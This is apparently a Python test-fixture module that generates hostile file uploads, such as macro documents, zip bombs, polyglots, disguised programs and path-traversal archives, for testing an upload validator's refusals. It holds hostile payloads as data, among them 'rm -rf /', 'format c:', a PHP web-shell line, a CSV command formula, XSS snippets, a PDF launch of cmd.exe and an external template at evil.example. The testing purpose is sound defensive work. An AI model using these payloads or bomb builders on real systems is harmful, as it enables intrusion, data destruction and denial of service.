"""Hostile uploads (QUALITY 24): each a name, a content, and a word of the refusal that it must get."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.returns.file_makers import (
    chunk,
    excel,
    jpeg,
    open_document,
    open_xml,
    packed_objects,
    parts_of,
    pdf,
    png,
    powerpoint,
    with_parts,
    word,
    zipped,
)

Hostile = tuple[str, bytes, str]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
EXE = b"MZ\x90\x00\x03" + b"\0" * 200
_OOXML = "application/vnd.openxmlformats-officedocument."
_MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def encrypted_zip() -> bytes:
    """Return a Word document whose parts are marked as encrypted."""
    data = bytearray(word())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def lying_sizes() -> bytes:
    """Return a document whose directory says that a part of 40 MB has ten bytes."""
    bomb = zipped({**parts_of(word()), "word/media/a.xml": b"<a>" + b" " * 40_000_000 + b"</a>"})
    data = bytearray(bomb)
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def overlapping() -> bytes:
    """Return a ZIP file two of whose parts share the same bytes (the better zip bomb)."""
    data = bytearray(with_parts(word(), {"word/media/a.bin": b"a" * 1000, "word/media/b.bin": b"a" * 1000}))
    last = data.rfind(b"PK\x01\x02")
    first = data.rfind(b"PK\x01\x02", 0, last)
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(data)


def hidden_between() -> bytes:
    """Return a document with a program between two of its parts, which no directory names."""
    data = word()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        places = sorted(part.header_offset for part in archive.infolist())
    cut, more = places[1], EXE + b"x" * 100
    moved = bytearray(data[:cut] + more + data[cut:])
    at = moved.find(b"PK\x01\x02")
    while at >= 0:
        offset = struct.unpack("<I", moved[at + 42 : at + 46])[0]
        if offset >= cut:
            moved[at + 42 : at + 46] = struct.pack("<I", offset + len(more))
        at = moved.find(b"PK\x01\x02", at + 46)
    end = moved.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", moved[end + 16 : end + 20])[0]
    moved[end + 16 : end + 20] = struct.pack("<I", start + len(more))
    return bytes(moved)


def renamed_inside() -> bytes:
    """Return a document whose part calls itself otherwise than the directory does."""
    data = bytearray(with_parts(word(), {"word/harmless1.xml": b"<a/>"}))
    at = data.find(b"word/harmless1.xml")
    data[at : at + 18] = b"word/vbaProject.bi"
    return bytes(data)


def duplicated() -> bytes:
    """Return a document with two parts of one name."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        part = zipfile.ZipInfo("word/Document.xml")
        archive.writestr(part, "<other/>")
    return out.getvalue()


def linked() -> bytes:
    """Return a document with a part that is a symbolic link."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        part = zipfile.ZipInfo("word/link.xml")
        part.create_system, part.external_attr = 3, 0o120777 << 16
        archive.writestr(part, "/etc/passwd")
    return out.getvalue()


def many_parts(count: int) -> bytes:
    """Return a document of very many empty parts."""
    return with_parts(word(), {f"word/p{number}.xml": b"" for number in range(count)})


def _word_with(name: str, content: bytes) -> bytes:
    return with_parts(word(), {name: content})


def _types(document: bytes, before: str, after: str) -> bytes:
    types = parts_of(document)["[Content_Types].xml"].decode().replace(before, after)
    return with_parts(document, {"[Content_Types].xml": types.encode()})


def _macros() -> Iterator[Hostile]:
    plain = f"{_OOXML}wordprocessingml.document.main+xml"
    types = parts_of(word())["[Content_Types].xml"].decode().replace(plain, _MACRO_WORD)
    sheet = f"{_OOXML}spreadsheetml.sheet.main+xml"
    yield "macro part.docx", _word_with("word/vbaProject.bin", OLE), "macros"
    yield "macro part in odd letters.docx", _word_with("word/VBAPROJECT.BIN", OLE), "macros"
    yield "docm called docx.docx", _types(word(), plain, _MACRO_WORD), "macros"
    yield "xlsm called xlsx.xlsx", _types(excel(), sheet, _MACRO_EXCEL), "macros"
    hidden = {"[Content_Types].xml": types.encode("utf-16")}
    yield "macro type in UTF-16.docx", with_parts(word(), hidden), "macros"
    yield "old macro sheet.xlsx", with_parts(excel(), {"xl/macrosheets/sheet1.xml": b"<m/>"}), "macros"
    yield "activeX.pptx", powerpoint({"ppt/activeX/activeX1.xml": b"<ax/>"}), "macros"
    yield "basic.odt", open_document({"Basic/Standard/Module1.xml": b"<m/>"}), "macros"
    yield "python.odt", open_document({"Scripts/python/evil.py": b"import os"}), "macros"
    event = b'<office:document-content><script:event-listener script:event-name="dom:load"/>'
    yield "event.odt", open_document({"content.xml": event}), "macros"


def _protected() -> Iterator[Hostile]:
    crypt = b"<manifest:manifest><manifest:encryption-data/></manifest:manifest>"
    yield "encrypted.pdf", pdf(trailer=b"/Encrypt 9 0 R "), "password"
    yield "encrypted, spelt oddly.pdf", pdf(trailer=b"/#45ncr#79pt 9 0 R "), "password"
    yield "encrypted in place.pdf", pdf(trailer=b"/Encrypt<< /Filter /Standard >> "), "password"
    yield "password.docx", OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500, "password"
    yield "encrypted parts.docx", encrypted_zip(), "password"
    yield "password.odt", open_document({"META-INF/manifest.xml": crypt}), "password"


def _bombs() -> Iterator[Hostile]:
    flat = b"<a>" + b" " * 140_000_000 + b"</a>"
    yield "bomb.docx", _word_with("word/a.xml", flat), "unpacks to far more"
    yield "large bomb.xlsx", with_parts(excel(), {f"xl/{n}.xml": flat for n in (1, 2)}), "unpacks to far more"
    yield "lying bomb.docx", lying_sizes(), "damaged"
    yield "overlapping bomb.docx", overlapping(), "hidden in it"
    yield "many parts.docx", many_parts(20_000), "unpacks to far more"
    nested = _word_with("word/embeddings/sheet.xlsx", with_parts(excel(), {"xl/a.xml": flat}))
    yield "bomb in a document.docx", nested, "unpacks to far more"
    entities = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    yield "entities.docx", _word_with("word/a.xml", entities), "hidden in it"
    yield "picture bomb.png", png(60_000, 60_000), "too many dots"
    yield "picture bomb.jpg", jpeg(65_000, 65_000), "too many dots"
    stream = b"".join(packed_objects(b" " * 9_000_000) for _ in range(6))
    yield "object bomb.pdf", pdf(stream), "built into it"
    yield "million empty streams.pdf", pdf(b"/ObjStm stream\n" * 500_000), "built into it"


def _two_in_one() -> Iterator[Hostile]:
    page = b"<html><script>alert(1)</script></html>"
    yield "pdf and zip.pdf", pdf() + zipped({"a.txt": b"a"}), "hidden in it"
    yield "pdf and page.pdf", pdf() + page, "hidden in it"
    yield "png and zip.png", png() + zipped({"a.txt": b"a"}), "hidden in it"
    yield "png and page.png", png(more=chunk(b"tEXt", b"c\0" + page)), "hidden in it"
    yield "jpg and zip.jpg", jpeg(after=zipped({"a.txt": b"a"})), "hidden in it"
    yield "jpg and page.jpg", jpeg(comment=page), "hidden in it"
    yield "jpg and php.jpg", jpeg(comment=b"<?php system($_GET[0]); ?>"), "hidden in it"
    yield "jpg and pdf.jpg", jpeg(comment=b"%PDF-1.4 1 0 obj"), "hidden in it"
    yield "zip with a program before it.docx", EXE + word(), "program"
    yield "docx with a comment.docx", word()[:-2] + b"\x05\x00hello", "hidden in it"
    yield "docx and more behind.docx", word() + EXE, "hidden in it"
    yield "program between the parts.docx", hidden_between(), "hidden in it"
    yield "part with two names.docx", renamed_inside(), "hidden in it"
    yield "two parts of one name.docx", duplicated(), "hidden in it"
    yield "page in a document.docx", _word_with("word/a.xml", b"<html><body>"), "hidden in it"


def _disguised() -> Iterator[Hostile]:
    yield "program.pdf", EXE, "program"
    yield "program.docx", ELF, "program"
    yield "script.txt", b"#!/bin/sh\nrm -rf /\n", "program"
    yield "batch.txt", b"@echo off\r\nformat c:\r\n", "program"
    yield "link.txt", b"[InternetShortcut]\r\nURL=file://x/y.exe\r\n", "program"
    yield "shortcut.txt", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60, "program"
    yield "page.txt", b"\xef\xbb\xbf  <!DOCTYPE html><html><body>Sign in</body></html>", "web page"
    yield "page.pdf", b"<html>%PDF-1.4</html>", "web page"
    yield "drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "web page"
    yield "drawing.txt", b"<?xml version='1.0'?><svg onload='alert(1)'/>", "web page"
    yield "page in UTF-16.txt", "<script>alert(1)</script>".encode("utf-16"), "web page"
    yield "page far inside.csv", b"a;b\n" * 100_000 + b"<script>alert(1)</script>", "web page"
    yield "mail with a page.txt", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n", "web page"
    yield "command.csv", b"Name,Count\n=cmd|'/c calc'!A0,3\n", "starts a program"
    yield "program inside.docx", _word_with("word/media/image1.png", EXE), "program"
    yield "package inside.docx", _word_with("word/embeddings/oleObject1.bin", OLE), "built into it"
    yield "zip inside.docx", _word_with("word/media/a.bin", zipped({"a.exe": EXE})), "built into it"
    far = (
        b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    yield "far template.docx", _word_with("word/_rels/settings.xml.rels", far), "built into it"
    yield "script.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "built into it"
    yield "launch.pdf", pdf(b"<< /S /L#61unch /F (cmd.exe) >>"), "built into it"
    yield "hidden script.pdf", pdf(packed_objects(b"<< /S /JavaScript /JS 4 0 R >>")), "built into it"
    yield "attachment.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "built into it"


def _others() -> Iterator[Hostile]:
    yield "empty.pdf", b"", "empty"
    yield "png called pdf.pdf", png(), "PNG picture"
    yield "pdf called docx.docx", pdf(), "PDF"
    yield "no ending", pdf(), "no ending"
    yield "report.pdf.exe", pdf(), "PDF"
    yield "old word.doc", OLE, "older office format"
    yield "plain zip.zip", zipped({"a.txt": b"a"}), "Packed files"
    yield "spreadsheet.ods", open_document(kind="application/vnd.oasis.opendocument.spreadsheet"), "OpenDoc"
    yield "template.dotx", open_xml(f"{_OOXML}wordprocessingml.template.main+xml", "word"), "template"
    yield "cut off.docx", word()[:-300], "damaged"
    yield "cut off.pdf", pdf()[:-40], "damaged"
    yield "cut off.png", png()[:-6], "damaged"
    yield "wrong checksum.png", png()[:40] + b"\0" + png()[41:], "damaged"
    yield "cut off.jpg", jpeg()[:12], "damaged"
    yield "path out.docx", _word_with("../../evil.xml", b"<a/>"), "hidden in it"
    yield "absolute path.docx", _word_with("/etc/cron.d/evil", b"<a/>"), "hidden in it"
    yield "backslash.docx", _word_with("word\\..\\evil.xml", b"<a/>"), "hidden in it"
    yield "symbolic link.docx", linked(), "hidden in it"
    yield "binary.txt", bytes(range(256)) * 4, "kind of file"
    yield "gif.gif", b"GIF89a" + b"\0" * 20, "GIF"
    yield "rtf.txt", b"{\\rtf1\\ansi{\\object\\objocx}}", "RTF"
    yield "random.pdf", zlib.compress(b"x" * 100), "kind of file"


FAMILIES: tuple[Callable[[], Iterator[Hostile]], ...] = (
    _macros,
    _protected,
    _bombs,
    _two_in_one,
    _disguised,
    _others,
)


def every_hostile_file() -> Iterator[Hostile]:
    """Yield all of them, the large ones made one at a time."""
    for family in FAMILIES:
        yield from family()
